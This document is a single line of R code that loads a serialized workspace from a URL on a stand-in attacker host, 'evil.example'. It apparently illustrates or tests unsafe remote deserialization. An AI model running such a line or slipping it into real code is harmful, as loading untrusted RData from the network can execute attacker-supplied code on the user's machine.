load(url("http://evil.example/x.RData"))
